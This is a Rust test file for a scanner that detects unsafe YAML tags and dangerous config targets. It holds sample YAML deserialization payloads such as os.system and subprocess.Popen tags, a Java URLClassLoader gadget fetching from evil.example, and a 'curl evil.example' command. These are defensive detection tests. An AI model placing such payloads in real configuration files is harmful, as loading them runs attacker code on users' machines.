use crate::{
    Subject,
    testing::{findings, told},
};
use std::sync::Arc;
use wellhead_core::Budget;
use wellhead_formats::{
    document::{DataFile, Encoding, TextFile},
    text,
};

fn yaml(source: &str) -> DataFile {
    DataFile {
        root: text::yaml(source, &mut Budget::default()),
        text: TextFile {
            text: Arc::from(source),
            encoding: Encoding::Utf8,
        },
    }
}

fn verdict(source: &str) -> String {
    told(&findings("c.yaml", Subject::Data(&yaml(source))))
}

#[test]
fn tags_are_judged_by_what_they_name() {
    for (source, expected) in [
        (
            "a: !!python/object/apply:os.system ['id']\n",
            "unsafe-yaml-tag critical",
        ),
        (
            "a: !!python/object/apply:subprocess.Popen\n- [id]\n",
            "unsafe-yaml-tag critical",
        ),
        ("!!python/object/new:os.system [id]\n", "unsafe-yaml-tag critical"),
        (
            "a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n",
            "unsafe-yaml-tag critical",
        ),
        (
            "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n",
            "unsafe-yaml-tag critical",
        ),
        ("a: !!python/name:os.system ''\n", "unsafe-yaml-tag high"),
        ("a: !!python/module:evil ''\n", "unsafe-yaml-tag high"),
        (
            "a: !!python/object/apply:pymdownx.os.system [id]\n",
            "unsafe-yaml-tag critical",
        ),
        (
            "a: !!python/object/apply:unknown.thing []\n",
            "unsafe-yaml-tag high",
        ),
        (
            "a: !!python/object:my.project.Config {a: 1}\n",
            "unsafe-yaml-tag medium",
        ),
        (
            "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example\"]]]]\n",
            "unsafe-yaml-tag critical, unsafe-yaml-tag critical, unsafe-yaml-tag medium",
        ),
        ("a: !apply:os.system [id]\n", "unsafe-yaml-tag critical"),
        // Innocent.
        (
            "a: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN\n    input_size: 80\n",
            "",
        ),
        (
            "a: !!python/tuple [1, 2]\nb: !!binary aGk=\nc: !!python/unicode x\n",
            "",
        ),
        ("Resources: !Ref Bucket\nx: !Sub '${a}'\ny: !vault abc\n", ""),
        (
            "emoji_index: !!python/name:material.extensions.emoji.twemoji\n",
            "",
        ),
        (
            "slug: !!python/object/apply:pymdownx.slugs.slugify {kwds: {case: lower}}\n",
            "",
        ),
        ("a: !!python/object:argparse.Namespace {lr: 1}\n", ""),
        (
            "a: '!!python/object/apply:os.system'\n# !!python/object/apply:os.system\n",
            "",
        ),
    ] {
        assert_eq!(verdict(source), expected, "{source}");
    }
}

#[test]
fn a_tag_is_shown_with_its_arguments_in_its_line() {
    let found = findings(
        "c.yaml",
        Subject::Data(&yaml(
            "lr: 1\nx: !!python/object/apply:os.system\n  - curl evil.example\n",
        )),
    );
    assert_eq!(
        found[0].message,
        "loading this file with an unsafe YAML loader runs `os.system('curl evil.example')`"
    );
    let wellhead_core::Span::Text { start, .. } = &found[0].locations[0].span else {
        panic!()
    };
    assert_eq!(start.line, 2);
}

#[test]
fn targets_are_judged_by_what_they_reach() {
    for (source, expected) in [
        (
            "_target_: os.system\ncommand: id\n",
            "unsafe-config-target critical",
        ),
        (
            "m: {o: {_target_: builtins.eval, _args_: [\"1+1\"]}}\n",
            "unsafe-config-target critical",
        ),
        (
            "_target_: torch.serialization.os.system\n",
            "unsafe-config-target critical",
        ),
        (
            "class_path: subprocess.Popen\ninit_args: {args: id}\n",
            "unsafe-config-target critical",
        ),
        (
            "target: os.system\nparams: {command: id}\n",
            "unsafe-config-target critical",
        ),
        ("module: os\nclass: system\n", "unsafe-config-target critical"),
        ("_target_: evil.pkg.Thing\n", "unsafe-config-target low"),
        // Innocent.
        ("_target_: torch.optim.AdamW\nlr: 1\n", ""),
        (
            "model: {_target_: nemo.collections.asr.modules.ConvASREncoder, cls: x}\n",
            "",
        ),
        (
            "target: ldm.models.diffusion.ddpm.LatentDiffusion\nparams: {a: 1}\n",
            "",
        ),
        ("target: main\nname: os.system\n", ""),
        ("class_path: MyModel\n", ""),
    ] {
        assert_eq!(verdict(source), expected, "{source}");
    }
}

#[test]
fn interpolations_are_followed_or_reported() {
    for (source, expected) in [
        ("k: os\n_target_: ${k}.system\n", "unsafe-config-target critical"),
        (
            "k: os.system\na: {_target_: '${k}'}\n",
            "unsafe-config-target critical",
        ),
        (
            "a: {b: [x, os.system]}\n_target_: ${a.b[1]}\n",
            "unsafe-config-target critical",
        ),
        (
            "a: {k: os.system, _target_: '${.k}'}\n",
            "unsafe-config-target critical",
        ),
        (
            "i: k\nk: os.system\n_target_: ${${i}}\n",
            "unsafe-config-target critical",
        ),
        ("k: torch.optim\n_target_: ${k}.AdamW\n", ""),
        ("_target_: ${oc.env:X}\n", "unsafe-config-target medium"),
        ("_target_: ${elsewhere}.x\n", "unsafe-config-target medium"),
        ("k: ${k}\n_target_: ${k}\n", "unsafe-config-target medium"),
        (
            "k: ${k}${k}${k}${k}\n_target_: ${k}\n",
            "unsafe-config-target medium",
        ),
        ("target: ${x}\nparams: {a: 1}\n", ""),
        ("class: ${x}\nmodule: ${y}\n", ""),
    ] {
        assert_eq!(verdict(source), expected, "{source}");
    }
}

#[test]
fn what_ordinary_configurations_call_is_no_alarm() {
    for (source, expected) in [
        (
            "_target_: hydra.utils.get_method\npath: torch.nn.functional.relu\n",
            "",
        ),
        ("_target_: hydra.utils.get_class\npath: torch.optim.AdamW\n", ""),
        (
            "_target_: hydra.utils.get_method\npath: os.system\n",
            "unsafe-config-target critical",
        ),
        (
            "_target_: hydra.utils.get_method\n_args_: [os.system]\n",
            "unsafe-config-target critical",
        ),
        (
            "_target_: hydra.utils.get_method\npath: ${oc.env:X}\n",
            "unsafe-config-target medium",
        ),
        (
            "_target_: hydra.utils.instantiate\nconfig: {_target_: torch.nn.Linear}\n",
            "",
        ),
        (
            "_target_: hydra.utils.instantiate\nconfig: {_target_: os.system}\n",
            "unsafe-config-target critical",
        ),
        (
            "_target_: hydra.utils.instantiate\nconfig: {_target_: builtins.dict, _args_: [[[_target_, os.system]]]}\n",
            "unsafe-config-target critical",
        ),
        (
            "_target_: transformers.AutoModel.from_pretrained\npretrained_model_name_or_path: x\n",
            "unsafe-config-target medium",
        ),
        (
            "_target_: transformers.AutoModel.from_pretrained\ntrust_remote_code: true\n",
            "unsafe-config-target high",
        ),
        ("_target_: transformers.pipeline\n", "unsafe-config-target medium"),
        (
            "_target_: huggingface_hub.snapshot_download\nrepo_id: a/b\n",
            "unsafe-config-target medium",
        ),
        ("_target_: torch.hub.load\n", "unsafe-config-target high"),
        ("_target_: torch.load\nf: x\n", "unsafe-config-target high"),
        ("_target_: torch.load\nf: x\nweights_only: true\n", ""),
        ("_target_: numpy.load\nfile: x\n", ""),
        (
            "_target_: numpy.load\nallow_pickle: true\n",
            "unsafe-config-target high",
        ),
        (
            "_target_: numpy.load\n_args_: [x, null, true]\n",
            "unsafe-config-target high",
        ),
        ("_target_: os.path.join\n_args_: [a, b]\n", ""),
        ("_target_: operator.itemgetter\n", ""),
        ("_target_: torch.compile\n", ""),
        ("_target_: pandas.read_csv\n", ""),
        ("_target_: tempfile.mkdtemp\n", ""),
        ("_target_: shutil.rmtree\n", "unsafe-config-target high"),
        ("_target_: requests.get\n", "unsafe-config-target high"),
        ("_target_: pickle.loads\n", "unsafe-config-target critical"),
        (
            "_target_: torch.utils.cpp_extension.load_inline\n",
            "unsafe-config-target critical",
        ),
    ] {
        assert_eq!(verdict(source), expected, "{source}");
    }
}
